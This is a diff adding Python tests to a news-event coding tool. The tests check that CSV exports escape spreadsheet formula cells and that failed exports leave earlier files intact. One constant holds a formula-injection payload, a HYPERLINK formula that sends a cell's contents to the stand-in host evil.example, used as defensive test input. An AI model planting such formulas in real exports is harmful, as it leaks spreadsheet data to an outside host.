@@ -251,3 +251,89 @@ def test_every_reject_keeps_a_bounded_excerpt_and_where_the_record_is(tmp_path):
     empty.write_text("   \n")
     (r,) = read_inputs([str(empty)])
     assert (r.offset, r.length) == (0, 4)
+
+
+INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+
+
+def test_csv_cells_that_would_run_as_formulas_are_neutralised_everywhere(coder, tmp_path):
+    from click.testing import CliRunner
+    from fastapi.testclient import TestClient
+
+    from dyads.cli import main
+    from dyads.export.records import csv_cell
+    from dyads.web import create_app
+
+    assert [csv_cell(v) for v in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "ok", -2.5, None)] == [
+        "'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\tx", "ok", -2.5, None]
+    assert csv_cell("=1+1", escape_formulas=False) == "=1+1"
+    feed = tmp_path / "f.jsonl"
+    feed.write_text(json.dumps({"id": "x", "date": "2013-07-22", "text": f"{INJECTION} Russia criticised the "
+                                "United States on Monday."}) + "\n")
+    db = tmp_path / "x.duckdb"
+    run = CliRunner().invoke(main, ["code", str(feed), "--db", str(db), "-q", "--format", "csv",
+                                    "-o", str(tmp_path / "code.csv")], catch_exceptions=False)
+    assert run.exit_code == 0, run.output
+    CliRunner().invoke(main, ["code", str(feed), "--db", str(tmp_path / "y.duckdb"), "-q", "--format", "csv",
+                              "--raw-csv", "-o", str(tmp_path / "raw.csv")], catch_exceptions=False)
+    query = CliRunner().invoke(main, ["query", "--db", str(db), "--format", "csv", "SELECT text FROM articles"],
+                               catch_exceptions=False)
+    with TestClient(create_app(db, allowed_hosts=["testserver"])) as client:
+        web = client.get("/api/events.csv").text
+
+    def cells(text: str) -> list[str]:
+        import csv as csvmod
+        import io
+
+        return [c for row in csvmod.reader(io.StringIO(text)) for c in row if "HYPERLINK" in c]
+
+    for name, text in (("code", (tmp_path / "code.csv").read_text()), ("web", web), ("query", query.stdout)):
+        found = cells(text)
+        assert found and all(c.startswith("'=HYPERLINK") for c in found), (name, found)
+    assert any(c.startswith("=HYPERLINK") for c in cells((tmp_path / "raw.csv").read_text()))
+
+
+def test_a_failed_export_leaves_the_previous_file_whole(tmp_path, monkeypatch):
+    from dyads import export
+    from dyads.export import export_events
+    from dyads.store import Store
+
+    db = tmp_path / "e.duckdb"
+    with Store(db):
+        pass
+
+    def boom(*args, **kwargs):
+        raise OSError("killed half-way")
+
+    for fmt, name in (("jsonl", "out.jsonl"), ("parquet", "out.parquet"), ("gdelt-events", "out.tsv")):
+        target = tmp_path / name
+        target.write_bytes(b"the previous complete export\n")
+        monkeypatch.setattr(export, "select_events", lambda store, flt: [{"id": 1}])
+        monkeypatch.setattr(export, "event_mentions", lambda store, ids: {})
+        monkeypatch.setattr(export, "_jsonl_record", boom)
+        monkeypatch.setattr(export.pq, "write_table", lambda table, path: (Path(path).write_bytes(b"PAR1"), boom()))
+        monkeypatch.setattr(export.gdelt, "event_lines", lambda ev, header: iter(["a\tb\n", boom()]))
+        with Store(db, read_only=True) as store, pytest.raises(OSError, match="half-way"):
+            export_events(store, fmt, target)
+        assert target.read_bytes() == b"the previous complete export\n"
+        assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []
+
+
+def test_export_csv_neutralises_formula_names(tmp_path, monkeypatch):
+    import csv as csvmod
+
+    from dyads import export
+    from dyads.export import export_events
+    from dyads.store import Store
+
+    db = tmp_path / "e.duckdb"
+    with Store(db):
+        pass
+    monkeypatch.setattr(export, "select_events", lambda store, flt: [{"id": 1, "source_name": INJECTION}])
+    monkeypatch.setattr(export, "event_mentions", lambda store, ids: {})
+    with Store(db, read_only=True) as store:
+        export_events(store, "csv", tmp_path / "safe.csv")
+        export_events(store, "csv", tmp_path / "raw.csv", escape_formulas=False)
+    safe = next(csvmod.DictReader(open(tmp_path / "safe.csv", encoding="utf-8")))
+    raw = next(csvmod.DictReader(open(tmp_path / "raw.csv", encoding="utf-8")))
+    assert safe["source_name"] == "'" + INJECTION and raw["source_name"] == INJECTION
